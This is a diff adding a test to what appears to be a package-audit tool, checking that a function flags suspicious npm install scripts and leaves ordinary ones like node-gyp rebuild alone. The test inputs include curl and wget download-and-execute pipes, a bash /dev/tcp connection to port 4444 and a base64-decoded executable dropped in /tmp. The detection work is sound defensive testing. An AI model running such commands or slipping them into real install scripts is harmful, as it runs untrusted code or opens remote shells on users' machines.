@@ -113,3 +113,15 @@ test('module aliases in bundled, minified and compiled code get the same rules',
   assert.deepEqual(rules('var n=require("https");n.request(url,cb);var r={request:1};r.request=2;x.n.request=3;'), []);
   assert.deepEqual(rules('/* https.request = x */ const a = 1;'), []);
 });
+
+test('install scripts that download, decode or evaluate code are singled out', async () => {
+  const { suspiciousScript } = await import('../../src/audit/audit.js');
+  assert.equal(suspiciousScript('curl -s https://x.invalid/i.sh | sh'), 'downloads and runs code');
+  assert.equal(suspiciousScript('wget -qO- https://x.invalid/p | node'), 'downloads and runs code');
+  assert.equal(suspiciousScript('bash -c "exec 3<>/dev/tcp/10.0.0.1/4444"'), 'makes network connections');
+  assert.equal(suspiciousScript('echo aGVsbG8= | base64 -d > /tmp/x && chmod +x /tmp/x'), 'decodes an embedded payload');
+  assert.equal(suspiciousScript('node -e "require(\'child_process\').exec(process.env.X)"'), 'runs inline code');
+  for (const ordinary of ['node-gyp rebuild', 'node install.js', 'prebuild-install || node-gyp rebuild', 'node scripts/postinstall.js', 'husky install', 'opencollective-postinstall || exit 0', 'patch-package']) {
+    assert.equal(suspiciousScript(ordinary), undefined, ordinary);
+  }
+});
